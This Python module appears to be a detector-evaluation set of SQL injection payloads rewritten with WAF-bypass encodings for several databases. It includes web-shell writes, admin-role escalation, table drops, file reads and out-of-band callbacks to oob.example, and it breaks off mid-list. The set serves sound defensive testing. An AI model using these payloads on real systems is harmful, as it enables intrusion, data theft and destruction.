"""Blind set "hundredseventyfirst": SQL and NoSQL injection rewritten the way a WAF-bypass researcher rewrites it,
with benign requests that carry the same syntax and encodings innocently.

The angle: WAF-bypass research, recalled from memory. For each family the researcher takes an attack that works
and rewrites it in the syntax variants and encodings the target still accepts, hunting for the form a
regex-and-libinjection WAF misses: comments and unusual whitespace between tokens (form feed, vertical tab,
newline, `#`/`--` comments followed by a newline), case mixing, keywords glued to numbers (`1e0union`, `\\Nunion`),
MySQL executable comments, ODBC `{x expr}` escapes, keywords built from pieces (`'xp_'+'cmdshell'`, PREPARE from a
variable, PostgreSQL DO blocks with concatenated text), alternative functions and operators (mid/ord/locate,
rlike, sounds like, div, greatest, JSON functions as tautologies, VALUES/TABLE statements instead of SELECT), SQL
hex, bit, char, chr, U&'' and E'' literals and base64 (from_base64, decode), and transport tricks: a whole JSON
document whose quotes and keywords are `\\u` escapes the JSON parser decodes ("json-body"), an XML document whose
keywords and quotes are character references the XML parser decodes (the stock-check shape), a raw
percent-encoded form body ("rs-raw-body"), the field as a parameter name, multipart file names, and fullwidth
forms (U+FF01-U+FF5E, U+3000 for the space) for an application that NFKC-normalises input before it builds the
query. Every payload still reads as a working attack on its named target once the target decodes it; each group
carries a comment naming the technique and the target (MySQL/MariaDB, PostgreSQL, SQL Server, Oracle, SQLite,
MongoDB / a Node.js or PHP app in front of it).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Fixed placements: whole JSON documents
go as the JSON body ("json-body" / "rs-json-body"), whole XML documents as the XML body ("xml" / "rs-xml"),
already percent-encoded `name=value` bodies unquoted ("form" / "rs-raw-body"), column-name injections as a
parameter name ("param-name" / "rs-param-name"), and upload-name injections as a multipart file name
("multipart-filename" / "rs-multipart-filename"). Payloads with control characters (form feed, vertical tab,
carriage return) never go into headers, cookies, the path or XML.

Authorship and independence: written for this repository from general knowledge of each attack family and of
WAF-bypass techniques as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .family_gen import _json
from .records import numbered, print_records

NAME = "hundredseventyfirst"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")   # a whole JSON document, \u escapes decoded by the JSON parser
XD = ("xml", "rs-xml")   # a whole XML document, character references decoded by the XML parser
KV = ("form", "rs-raw-body")   # an already percent-encoded form body, decoded by the form parser
PN = ("param-name", "rs-param-name")   # the payload is the parameter's name (a column the app interpolates)
FN = ("multipart-filename", "rs-multipart-filename")   # the upload's file name, stored by an INSERT


def fw(text: str) -> str:
    """Fullwidth forms (U+FF01-U+FF5E, the ideographic space for a space): NFKC turns them back into ASCII, so an
    application that normalises input (common for Japanese and Chinese forms) rebuilds the ASCII attack."""
    return "".join("\u3000" if ch == " " else chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch for ch in text)


# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: token streams a fingerprinting tokenizer reads differently from the database's own lexer
LIBINJECTION: list[Entry] = [
    # MySQL: a user-variable assignment is a truthy expression, no comparison operator at all
    "1'or@x:=1#",
    # MySQL ODBC escape {identifier expr}: the value is expr, the braces hide it from a tokenizer
    "1'or{x 1}#",
    "-1'||{y 2>1}#",
    # MySQL: a number glued to the keyword, the lexer ends the number (scientific / decimal) before `union`
    "-1e0union select user(),2#",
    "1.0union select @@version,2-- -",
    # MySQL: \N is NULL and needs no space before the keyword
    "\\Nunion select current_user(),2#",
    # MySQL: whitespace the lexer accepts and a regex's \s or a tokenizer may not (form feed, vertical tab, CR)
    "1'\x0cor\x0c1=1#",
    "1'\x0bunion\x0bselect\x0bpassword,2\x0bfrom\x0busers#",
    "1'\ror\r'x'='x",
    # MySQL: parentheses instead of whitespace
    "1'or(1)like(1)#",
    "-1'union(select(user()),(2))#",
    # MySQL: word operators a tokenizer takes for identifiers
    "1'or 1 rlike 1#",
    "1'or 2 div 2#",
    "1'or 9 mod 4#",
    "0'xor 1#",
    "1'or~0#",
    "1'or!!1#",
    "1'or 1<=>1#",
    "1'or true is true#",
    # MySQL: `--` glued to a digit is double negation, not a comment
    "1'or--1#",
    # fully quoted token streams, no comment needed (MySQL, SQLite)
    "x'or'x'like'x",
    "'or''='",
    # PostgreSQL: dollar-quoted strings and casts instead of quotes and plain literals
    "1 or $$a$$=$$a$$",
    "1'or'1'::int=1--",
    # SQLite: an unclosed block comment ends the statement
    "1' or 1=1/*",
    # SQL Server: N-prefixed literal; Oracle: q-quote literal
    "1'or'a'=N'a'--",
    "1' or q'[a]'=q'[a]'--",
    # JSON body (any backend behind a JSON API, MySQL here): quote and keyword as \u escapes
    ('{"email":"a@example.org","name":"x\\u0027 or 1=1#"}',) + JB,
    ('{"email":"a@example.org","name":"x\\u0027\\u006fr\\u00271\\u0027=\\u00271"}',) + JB,
    # XML body (MySQL): the quote as character references
    ("<user><name>x&#39; or &#39;1&#39;=&#39;1</name></user>",) + XD,
    # NFKC-normalising app in front of MySQL
    fw("1' or 1=1#"),
]

# ----------------------------------------------------------------------------------------------------------------
# sql-tautology-boolean: always-true conditions built from functions and operators a `1=1` pattern never sees
TAUTOLOGY: list[Entry] = [
    # MySQL
    "' or 'a' sounds like 'a'#",
    "' or elt(1,1)#",
    "' or ifnull(null,1)#",
    "' or coalesce(null,2)>1#",
    "' or strcmp('a','a')=0#",
    "' or length(0x61)=1#",
    "' or not 0#",
    "' or 'b'>'a'#",
    "' or isnull(null)#",
    "' or field(2,1,2)#",
    "' or find_in_set('b','a,b')#",
    "' or locate('a','abc')#",
    "' or ascii('a')-96#",
    # MySQL 5.7+: JSON functions as the condition
    "' or json_valid('{}')#",
    "' or json_length('[1]')=1#",
    "' or json_contains('[1,2]','1')#",
    # PostgreSQL: jsonb containment, regex match, IS DISTINCT FROM, booleans
    "' or '{\"a\":1}'::jsonb @> '{}'::jsonb--",
    "' or 'x'::text ~ 'x'--",
    "' or 'a' is distinct from 'b'--",
    "' or pg_backend_pid()>0--",
    # SQLite: JSON, instr, glob, unicode
    "' or json_extract('{\"a\":1}','$.a')=1--",
    "' or instr('abc','b')--",
    "' or glob('a*','abc')--",
    "' or unicode('a')=97--",
    # SQL Server 2016+: JSON functions, len
    "' or isjson('{}')=1--",
    "' or json_value('{\"a\":\"1\"}','$.a')='1'--",
    "' or len('ab')=2--",
    # Oracle 12c+: JSON_EXISTS, LNNVL
    "' or json_exists('{\"a\":1}','$.a')--",
    "' or lnnvl(1=2)--",
    # JSON body (MySQL, PostgreSQL): quotes as \u escapes
    ('{"email":"a@example.org","name":"\\u0027 or json_valid(\\u0027{}\\u0027)#"}',) + JB,
    ('{"name":"\\u0027 or \\u0027{\\u0022a\\u0022:1}\\u0027::jsonb @> \\u0027{}\\u0027::jsonb--",'
     '"email":"b@example.org"}',) + JB,
    # percent-encoded raw body (MySQL)
    ("name=x%27+or+%27a%27+sounds+like+%27a%27%23",) + KV,
    # NFKC-normalising app in front of PostgreSQL
    fw("' or true--"),
]

# ----------------------------------------------------------------------------------------------------------------
# sql-comment-sequence: the rest of the query cut off with comment forms a `--\s` or `#` pattern may not match
COMMENT: list[Entry] = [
    # MySQL: `--` needs a following whitespace or control character; tab, form feed and newline all count
    "admin'--\t",
    "admin'--\x0c",
    "admin'--\nx",
    "admin'#x",
    "admin')-- -",
    "admin'))#",
    'admin"-- -',
    # SQLite: an unclosed block comment
    "admin'/*",
    # MySQL: block comments as whitespace, then a line comment
    "admin'/*c*/-- -",
    "1'/**/or/**/1=1/**/#",
    "1'/*foo*/union/*bar*/select/*baz*/1,2#",
    "1'/*\n*/or/*\r\n*/1=1#",
    # MySQL: a line comment hides the rest of its line, the attack continues on the next one
    "1'-- x\nor 1=1-- -",
    "1'#x\nunion select 1,user()#",
    # PostgreSQL: `--` then a newline; nested block comments
    "1'--\nunion select null,current_user--",
    "1'/*a/*b*/c*/or 1=1--",
    # SQL Server / Oracle: plain `--` with nothing after it
    "1' or 1=1;--",
    "admin' or 'a'='a'--",
    # percent-encoded raw bodies (MySQL): `%23` is `#`, `--+` decodes to `-- `
    ("username=admin%27%23&password=x",) + KV,
    ("username=admin%27--+&password=x",) + KV,
    ("username=admin%27%2F*&password=*%2F--+-",) + KV,
    # JSON body (MySQL): the quote and the dashes as \u escapes
    ('{"username":"admin\\u0027\\u002d\\u002d \\u002d","password":"x"}',) + JB,
    ('{"username":"admin\\u0027\\u0023","password":"x"}',) + JB,
    # XML body (MySQL): quote and space as character references
    ("<login><user>admin&#x27;--&#x20;-</user><pass>x</pass></login>",) + XD,
    # NFKC-normalising app in front of MySQL
    fw("admin'-- -"),
    fw("admin'#"),
    # column name from the parameter name (MySQL: `... where <name> = ?`)
    ("id=id#",) + PN,
]

# ----------------------------------------------------------------------------------------------------------------
# union-select: UNION written so that `union\s+select` does not appear as such
UNION: list[Entry] = [
    # MySQL: case mixing, DISTINCT / ALL between the keywords, parentheses
    "-1' UnIoN SeLeCt 1,@@version#",
    "-1' union distinct select 1,user()#",
    "-1' union all select null,database()#",
    "-1'union(select(1),(group_concat(user,0x3a,host))from(mysql.user))#",
    # MySQL: no commas (JOIN of derived tables)
    "-1' union select * from (select 1)a join (select user())b#",
    "-1'/**/union/**/select/**/1,current_user#",
    "-1' union select 1,0x61646d696e#",
    "-1' union select 1,char(112,119,110)#",
    "-1' union select 1,(select password from users where username=0x61646d696e)#",
    # MySQL 8.0.19+: VALUES and TABLE statements instead of SELECT
    "-1' union values row(1,user())#",
    "-1' union table users#",
    "0 union select 1,2 -- -",
    # PostgreSQL
    "-1' union select null,string_agg(usename||':'||passwd,',') from pg_shadow--",
    "-1' union select null,current_setting('data_directory')--",
    "-1' union select null,$$x$$||version()--",
    # SQL Server
    "-1' union select null,@@version--",
    "-1' union select null,name from master..sysdatabases--",
    "-1' union all select null,system_user--",
    # Oracle
    "-1' union select null,banner from v$version--",
    "-1' union select null,username from all_users--",
    # SQLite
    "-1' union select 1,sqlite_version()--",
    "-1' union select 1,group_concat(name) from pragma_table_info('users')--",
    # JSON body (MySQL): keywords' first letters as \u escapes
    ('{"email":"a@example.org","name":"-1\\u0027 \\u0055NION \\u0053ELECT 1,user()#"}',) + JB,
    # XML body (PostgreSQL stock check): keywords and quotes as character references
    ("<stockCheck><productId>1</productId><storeId>1 &#x55;NION &#x53;ELECT username||&#x27;~&#x27;||password"
     " FROM users</storeId></stockCheck>",) + XD,
    # percent-encoded raw body (MySQL): newlines as the separators
    ("id=-1%27%0Aunion%0Aselect%0A1,version()%23",) + KV,
    # NFKC-normalising app in front of MySQL
    fw("-1' union select 1,user()#"),
    # upload name stored by an INSERT ... SELECT (MySQL): the name becomes a subquery's union
    ("a' union select password from users where '1'='1.png",) + FN,
]

# ----------------------------------------------------------------------------------------------------------------
# stacked-queries: a second statement, its keywords built from pieces where a filter looks for them
STACKED: list[Entry] = [
    # PostgreSQL / SQL Server
    "1;update users set role='admin' where username='mallory'--",
    "1';insert into users(username,password,role) values('eve','x','admin')--",
    "1';drop table sessions--",
    "1;truncate table audit_log--",
    # SQL Server: dynamic SQL, keywords split and joined
    "1;exec('upd'+'ate users set role=''admin'' where id=7')--",
    "1;EXECUTE sp_executesql N'update users set role=''admin'' where id=7'--",
    "1;declare @c varchar(50)=char(100)+char(114)+char(111)+char(112)+' table logs';exec(@c)--",
    "1;exec('drop'+char(32)+'table'+char(32)+'logs')--",
    "1;shutdown with nowait--",
    "1;alter login sa with password='Winter2024!'--",
    # PostgreSQL: DO blocks and prepared statements
    "1;do $$begin update users set role='admin' where id=7; end$$--",
    "1;do $$begin execute 'upd'||'ate users set role=''admin'' where id=7';end$$--",
    "1;do $$begin execute chr(100)||'rop table sessions';end$$--",
    "1;prepare p as update users set role=$1 where id=7;execute p('admin')--",
    "1;create role eve login superuser password 'x'--",
    "1;update users set password=md5('x') where username like 'adm%'--",
    # MySQL with multi-statements: the statement built in a variable and prepared
    "1';set @q=concat('upd','ate users set role=0x61646d696e where id=7');prepare s from @q;execute s;#",
    "1';handler users open;handler users read first;#",
    "1';rename table users to users_old;#",
    "1';\nupdate users set role='admin' where id=7;\n#",
    # SQLite with executescript(): a new database file as a PHP web shell
    "1';attach database '/var/www/html/s.php' as s;create table s.t(c text);"
    "insert into s.t values('<?php system($_GET[0]);?>')--",
    # Oracle: injection into a PL/SQL block
    "');execute immediate 'grant dba to scott';end;--",
    # JSON body (PostgreSQL): the quote and the keyword's first letter as \u escapes
    ('{"email":"a@example.org","name":"x\\u0027;\\u0075pdate users set role=\\u0027admin\\u0027 where id=7--"}',)
    + JB,
    # XML body (SQL Server): the semicolon and quotes as character references
    ("<user><id>1&#59;update users set role=&#39;admin&#39; where id=7--</id></user>",) + XD,
    # percent-encoded raw body (SQL Server)
    ("id=1%3Bupdate%20users%20set%20role%3D%27admin%27%20where%20id%3D7--",) + KV,
    # NFKC-normalising app in front of PostgreSQL
    fw("1;drop table sessions--"),
    # upload name stored by an INSERT (SQL Server): close the VALUES list, then a second statement
    ("x.png');update users set role='admin' where id=7--",) + FN,
]

# ----------------------------------------------------------------------------------------------------------------
# time-based-blind: delays written with other functions, arithmetic, hex and split keywords
TIME: list[Entry] = [
    # MySQL
    "1'and sleep(5)#",
    "1'and(select*from(select(sleep(5)))a)#",
    "1'-sleep(5)-'",
    "1'and if(1=1,sleep(5),0)#",
    "1'and benchmark(5000000,md5(1))#",
    "1'and benchmark(9e6,sha1(0x41))#",
    "1'and (select count(*) from information_schema.columns a,information_schema.columns b,"
    "information_schema.columns c)#",
    "1'and case when 1 then sleep(5) end#",
    "1'and elt(1,sleep(5))#",
    "1' and sleep(0x5)#",
    "1'and sleep(5e0)#",
    # PostgreSQL
    "1';select pg_sleep(5)--",
    "1' and 1=(select 1 from pg_sleep(5))--",
    "1'||pg_sleep(5)||'",
    "1';select case when (1=1) then pg_sleep(5) else pg_sleep(0) end--",
    "1' and 1=(select 1 from pg_sleep_for('5 seconds'))--",
    # SQL Server
    "1';waitfor delay '0:0:5'--",
    "1' if 1=1 waitfor delay '00:00:05'--",
    "1';declare @d char(8)='0:0:5';waitfor delay @d--",
    "1';exec('wait'+'for delay ''0:0:5''')--",
    # Oracle
    "1' and 1=dbms_pipe.receive_message('x',5)--",
    "1' and (select dbms_pipe.receive_message(chr(97),5) from dual) is null--",
    # SQLite: a heavy expression instead of a sleep
    "1' and 1=like('ABCDEFG',upper(hex(randomblob(300000000))))--",
    # JSON body (MySQL, SQL Server): letters of the function as \u escapes
    ('{"email":"a@example.org","name":"x\\u0027 and sl\\u0065ep(5)#"}',) + JB,
    ('{"name":"x\\u0027;w\\u0061itfor d\\u0065lay \\u00270:0:5\\u0027--","email":"c@example.org"}',) + JB,
    # XML body (MySQL): a letter as a character reference
    ("<user><id>1 and sl&#101;ep(5)</id></user>",) + XD,
    # upload names stored by an INSERT (MySQL arithmetic on strings, PostgreSQL concatenation)
    ("a'+sleep(5)+'.png",) + FN,
    ("x'||pg_sleep(5)||'.jpg",) + FN,
    # column name from the parameter name (MySQL: `... where <name> = ?`)
    ("(select 1 from (select sleep(5))x)",) + PN,
    # percent-encoded raw body (MySQL)
    ("id=1%27%20and%20sleep%285%29%23",) + KV,
    # NFKC-normalising app in front of MySQL
    fw("1' and sleep(5)#"),
]

# ----------------------------------------------------------------------------------------------------------------
# error-based: data leaked through the text of a database error
ERROR: list[Entry] = [
    # MySQL: XPath functions, GTID and geohash functions, the duplicate-key group by, old overflow tricks
    "1' and extractvalue(1,concat(0x7e,version()))#",
    "1' and updatexml(1,concat(0x7e,(select user())),1)#",
    "1' and extractvalue(rand(),concat(0x3a,(select database())))#",
    "1' and (select 1 from(select count(*),concat(user(),floor(rand(0)*2))x from information_schema.tables "
    "group by x)y)#",
    "1' and exp(~(select*from(select user())a))#",
    "1' and geometrycollection((select*from(select*from(select user())a)b))#",
    "1' and gtid_subset(concat(0x7e,user()),1)#",
    "1' and st_latfromgeohash(version())#",
    "1' and polygon((select*from(select*from(select version())a)b))#",
    "1' and row(1,1)>(select count(*),concat(version(),0x3a,floor(rand()*2))x from (select 1 union select 2)a "
    "group by x limit 1)#",
    # PostgreSQL: casts of text to a number
    "1' and 1=cast(version() as int)--",
    "1' and 1=(select current_user)::int--",
    "1' and 1=cast((select string_agg(usename,',') from pg_user) as numeric)--",
    "1' and 1=cast(chr(126)||current_database() as int)--",
    "1' and 1=query_to_xml('select current_user',true,true,'')::text::int--",
    # SQL Server: implicit and explicit conversion errors
    "1' and 1=convert(int,@@version)--",
    "1' and 1=convert(int,(select top 1 name from sys.tables))--",
    "1' and 1=cast(db_name() as int)--",
    "1' and 1=db_name()--",
    "1' and 0<user_name()--",
    "1' and 1=convert(int,(select top 1 table_name+'~'+column_name from information_schema.columns))--",
    # Oracle
    "1' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "1' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "1' and (select upper(xmltype(chr(60)||chr(58)||(select user from dual)||chr(62))) from dual) is not null--",
    # JSON body (MySQL): the function name's first letter as a \u escape
    ('{"email":"a@example.org","name":"1\\u0027 and \\u0075pdatexml(1,concat(0x7e,user()),1)#"}',) + JB,
    # XML body (MySQL): a letter of the keyword as a character reference
    ("<user><id>1 and extractvalue(1,concat(0x7e,(s&#101;lect user())))</id></user>",) + XD,
    # percent-encoded raw body (SQL Server)
    ("id=1%27%20and%201%3Dconvert%28int%2C%40%40version%29--",) + KV,
    # NFKC-normalising app in front of PostgreSQL
    fw("1' and 1=cast(version() as int)--"),
    # upload name stored by an INSERT (PostgreSQL): the cast fails with the version in the message
    ("a'||cast(version() as int)||'.pdf",) + FN,
]

# ----------------------------------------------------------------------------------------------------------------
# out-of-band: file reads and writes, DNS/SMB/HTTP callbacks from the database server
OOB: list[Entry] = [
    # MySQL: file read, UNC path to a DNS name (Windows server), web-shell writes
    "1' union select 1,load_file('/etc/passwd')#",
    r"1' and load_file(concat('\\\\',(select user()),'.oob.example\\a'))#",
    "1' union select 1,'<?php system($_GET[0]);?>' into outfile '/var/www/html/s.php'#",
    "1' into outfile '/var/www/html/x.php' lines terminated by 0x3c3f7068702073797374656d28245f4745545b305d293b3f3e#",
    "1' union select 1,0x3c3f7068702073797374656d28245f4745545b305d293b3f3e into dumpfile '/var/www/html/d.php'#",
    "1' union select 1,load_file(0x2f6574632f686f73746e616d65)#",
    "1' union select 1,load_file(char(47,101,116,99,47,112,97,115,115,119,100))#",
    # SQL Server: xp_dirtree / xp_fileexist / xp_subdirs to a UNC path, OPENROWSET
    r"1';declare @q varchar(99);set @q='\\'+db_name()+'.oob.example\a';exec master..xp_dirtree @q--",
    r"1';exec master..xp_fileexist '\\oob.example\share\x'--",
    r"1';exec master..xp_subdirs '\\oob.example\s'--",
    r"1' union select null,(select * from openrowset(bulk 'c:\windows\win.ini',single_clob)x)--",
    "1';select * from openrowset('SQLOLEDB','server=oob.example;uid=sa;pwd=x','select 1')--",
    # Oracle: UTL_HTTP, UTL_INADDR, HTTPURITYPE, XXE through XMLType, DBMS_LDAP
    "1' and utl_http.request('http://oob.example/'||(select user from dual)) is not null--",
    "1' and utl_inaddr.get_host_address((select user from dual)||'.oob.example') is not null--",
    "1' and httpuritype('http://oob.example/'||user).getclob() is not null--",
    "1' and (select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://'||(select user from dual)||'.oob.example/\"> %x;]>'),'/l') from dual) is not null--",
    "1' and dbms_ldap.init((select user from dual)||'.oob.example',389) is not null--",
    # PostgreSQL: COPY TO PROGRAM, dblink, server-side file reads
    "1';copy (select '') to program 'nslookup $(whoami).oob.example'--",
    "1' and (select dblink_connect('host='||current_user||'.oob.example user=a password=b dbname=c')) is not null--",
    "1';select * from dblink('host=oob.example user=x dbname=y','select 1') as t(a int)--",
    "1' union select null,pg_read_file('/etc/passwd')--",
    "1';create table t(x text);copy t from '/etc/passwd'--",
    "1' union select null,lo_import('/etc/passwd')::text--",
    # JSON body (MySQL): letters of the function and the quotes as \u escapes
    ('{"email":"a@example.org","name":"1\\u0027 union select 1,l\\u006fad_file(\\u0027/etc/passwd\\u0027)#"}',)
    + JB,
    # XML body (MySQL): quotes as character references
    ("<user><id>-1 union select 1,load_file(&#x27;/etc/passwd&#x27;)</id></user>",) + XD,
    # percent-encoded raw body (SQL Server)
    ("id=1%27%3Bexec%20master..xp_dirtree%20%27%5C%5Coob.example%5Cx%27--",) + KV,
    # NFKC-normalising app in front of MySQL
    fw("-1' union select 1,load_file('/etc/passwd')#"),
]

# ----------------------------------------------------------------------------------------------------------------
# information-schema-probing: the catalog, and the other catalogs when `information_schema` is filtered
CATALOG: list[Entry] = [
    # MySQL
    "-1' union select 1,group_concat(table_name) from information_schema.tables where table_schema=database()#",
    "-1' union select 1,group_concat(column_name) from information_schema.columns where table_name=0x7573657273#",
    "-1' union select 1,group_concat(schema_name) from information_schema.schemata#",
    "-1' union select 1,table_name from `information_schema`.`tables`#",
    # MySQL: the qualifier dot is its own token, whitespace and comments may surround it
    "-1' union select 1,table_name from information_schema . tables#",
    "-1' union select 1,table_name from information_schema/**/./**/tables#",
    # MySQL 5.6+/5.7+: other catalogs that list tables
    "-1' union select 1,group_concat(table_name) from mysql.innodb_table_stats#",
    "-1' union select 1,group_concat(table_name) from sys.schema_table_statistics#",
    "-1' union select 1,group_concat(table_name) from sys.schema_auto_increment_columns#",
    "1' and (select 1 from information_schema.columns where column_name='password' limit 1)=1#",
    # PostgreSQL
    "-1' union select null,string_agg(table_name,',') from information_schema.tables where table_schema='public'--",
    "-1' union select null,string_agg(relname,',') from pg_class where relkind='r'--",
    "-1' union select null,string_agg(attname,',') from pg_attribute where attrelid='users'::regclass--",
    "-1' union select null,string_agg(datname,',') from pg_database--",
    "1' and (select count(*) from pg_tables where tablename=$$users$$)=1--",
    # SQL Server
    "-1' union select null,name from sysobjects where xtype='U'--",
    "-1' union select null,string_agg(name,',') from sys.tables--",
    "-1' union select null,name from syscolumns where id=object_id('users')--",
    "-1' union select null,(select table_name+',' from information_schema.tables for xml path(''))--",
    # Oracle
    "-1' union select null,table_name from all_tables--",
    "-1' union select null,column_name from all_tab_columns where table_name='USERS'--",
    "-1' union select null,listagg(owner,',') within group (order by owner) from (select distinct owner from "
    "all_tables)--",
    # SQLite
    "-1' union select 1,sql from sqlite_master--",
    "-1' union select 1,group_concat(tbl_name) from sqlite_schema--",
    "-1' union select 1,name from pragma_table_list--",
    # JSON body (MySQL): a letter of the schema name as a \u escape
    ('{"email":"a@example.org","name":"-1\\u0027 union select 1,group_concat(table_name) from '
     'inf\\u006frmation_schema.tables#"}',) + JB,
    # XML body (MySQL): keyword letters and the underscore as character references
    ("<user><id>-1 &#x55;NION SELECT 1,table_name FROM information&#95;schema.tables</id></user>",) + XD,
    # percent-encoded raw body (MySQL): `+` for the spaces
    ("id=-1%27+union+select+1%2Ctable_name+from+information_schema.tables%23",) + KV,
    # NFKC-normalising app in front of MySQL
    fw("-1' union select 1,table_name from information_schema.tables#"),
]

# ----------------------------------------------------------------------------------------------------------------
# mysql-comment-obfuscation: MySQL/MariaDB executable comments and comments with junk inside
MYCOMMENT: list[Entry] = [
    "1'/*!50000union*//*!50000select*/1,user()#",
    "1'/*!or*/1=1#",
    "-1'/*!12345union*/ /*!12345select*/1,version()#",
    "-1' /*!union*/ /*!all*/ /*!select*/ 1,database()#",
    "-1'/*!50000UniON*//*!50000SeLeCt*/1,@@hostname#",
    "1'/*!and*/sleep(5)#",
    "-1' union/*&a=*/select 1,user()#",
    "-1' uNiOn/**_**/sElEcT 1,2#",
    "-1'/**/union/*--*/select/*#*/1,user()#",
    "-1' union#foo\nselect 1,user()#",
    "-1' union-- x\nselect 1,user()#",
    "-1'/*!00000union*/select 1,2#",
    "-1' /*!40000union select*/ 1,current_user#",
    "1' or /*!50700 json_valid('{}')*/#",
    "1'/*!*/and/*!*/1=0/*!*/union/*!*/select/*!*/1,2#",
    "-1' union /*!50000distinct*/ select 1,user()#",
    "-1' /*!12345union*/ all /*!12345select*/ 1,group_concat(user) from mysql.user#",
    "1'/**//*!or*//**/'a'='a",
    "1'/*!50000||*/1#",
    "-1'/*!50000union*/(/*!50000select*/1,user())#",
    # MariaDB-only executable comment
    "-1'/*M!100000union select 1,user()*/#",
    # percent-encoded raw bodies: `%55` is `U` inside the comment; `#x` then a newline
    ("id=-1%27/*!50000%55nion*/%20select%201,2%23",) + KV,
    ("id=-1%27%20union%23x%0Aselect%201,user()%23",) + KV,
    # JSON body: keyword letters inside the executable comments as \u escapes
    ('{"email":"a@example.org","name":"-1\\u0027/*!50000\\u0075nion*//*!50000\\u0073elect*/1,user()#"}',) + JB,
    # XML body: a letter inside the executable comment as a character reference
    ("<user><id>-1/*!50000&#117;nion*//*!50000select*/ 1,user()</id></user>",) + XD,
    # NFKC-normalising app in front of MySQL
    fw("-1'/*!50000union*//*!50000select*/1,user()#"),
    # column name from the parameter name (`... where <name> = ?`)
    ("id/*!50000or*/1=1#",) + PN,
]

# ----------------------------------------------------------------------------------------------------------------
# function-based-probing: character-by-character extraction with the less watched string functions
FUNCTION: list[Entry] = [
    # MySQL
    "1' and ascii(substring(user(),1,1))>64#",
    "1' and ord(mid(user(),1,1))=114#",
    "1' and substr(user() from 1 for 1)='r'#",
    "1' and left(database(),1)='a'#",
    "1' and right(left(version(),1),1)='8'#",
    "1' and locate('r',user())=1#",
    "1' and instr(user(),'root')#",
    "1' and position('r' in user())=1#",
    "1' and hex(mid(user(),1,1))=72#",
    "1' and conv(hex(substr(user(),1,1)),16,10)=114#",
    "1' and lpad(user(),1,0)='r'#",
    "1' and strcmp(left(user(),1),'r')=0#",
    "1' and bin(ascii(mid(version(),1,1)))=111000#",
    "1' and (select mid(password,1,1) from users where id=1)=char(97)#",
    "1' and concat_ws(0x3a,user(),database()) like 'root%'#",
    "1' and elt(ascii(substr(user(),1,1))-113,1)#",
    # PostgreSQL
    "1' and ascii(substr(current_user,1,1))>64--",
    "1' and substring(current_user from 1 for 1)=chr(112)--",
    "1' and strpos(version(),'PostgreSQL')=1--",
    "1' and left(current_database(),1)=$$a$$--",
    "1' and get_byte(current_user::bytea,0)=112--",
    # SQL Server
    "1' and ascii(substring(db_name(),1,1))>64--",
    "1' and unicode(substring(system_user,1,1))=115--",
    "1' and charindex('s',system_user)=1--",
    # Oracle, SQLite
    "1' and instr(user,'SYS')=1--",
    "1' and unicode(substr(sqlite_version(),1,1))=51--",
    "1' and hex(substr(sqlite_version(),1,1))='33'--",
    # JSON body (MySQL): function names' first letters as \u escapes
    ('{"email":"a@example.org","name":"1\\u0027 and \\u0061scii(\\u0073ubstring(user(),1,1))>64#"}',) + JB,
    # XML body (MySQL): the comparison as an entity
    ("<user><id>1 and ascii(substring(user(),1,1))&gt;64</id></user>",) + XD,
    # NFKC-normalising app in front of MySQL
    fw("1' and mid(user(),1,1)='r'#"),
]

# ----------------------------------------------------------------------------------------------------------------
# sql-authentication-bypass: login forms (username and password fields of a form, a JSON or an XML login)
AUTH: list[Entry] = [
    # MySQL / generic string context
    "admin' or '1'='1",
    "' or 1=1 limit 1-- -",
    "' or 1=1 order by id limit 1#",
    "' or username like 'adm%'#",
    "' or username=0x61646d696e#",
    "' union select 1,'admin','5f4dcc3b5aa765d61d8327deb882cf99'#",
    "admin' or 1#",
    "admin' and 'x'='x'#",
    # SQL Server, PostgreSQL, Oracle, SQLite
    "admin'--",
    "admin' or true--",
    "' or 1=1 and rownum=1--",
    "' or 1=1 limit 1 offset 0--",
    "') or ('a'='a",
    # percent-encoded form bodies (MySQL): the comment split over two fields, a backslash eating the quote,
    # the `'='` and `'-0-'` string comparisons
    ("username=admin%27/*&password=*/or+1=1--+-",) + KV,
    ("username=admin%5C&password=%20or%201%3D1--%20-",) + KV,
    ("username=%27%3D%27&password=%27%3D%27",) + KV,
    ("username=%27-0-%27&password=%27-0-%27",) + KV,
    ("username=admin&password=x%27+or+%27x%27%3D%27x",) + KV,
    # JSON login (MySQL): the quote and comment as \u escapes
    ('{"username":"admin\\u0027-- -","password":"x"}',) + JB,
    ('{"username":"\\u0027 or 1=1 limit 1#","password":"x"}',) + JB,
    ('{"username":"admin","password":"\\u0027 \\u006fr \\u00271\\u0027=\\u00271"}',) + JB,
    # XML login (MySQL): quotes as character references
    ("<login><username>admin&#39; or &#39;1&#39;=&#39;1</username><password>x</password></login>",) + XD,
    ("<login><username>admin&#x27;#</username><password>x</password></login>",) + XD,
    # NFKC-normalising app in front of MySQL
    fw("admin' or '1'='1"),
    fw("' or 1=1 limit 1#"),
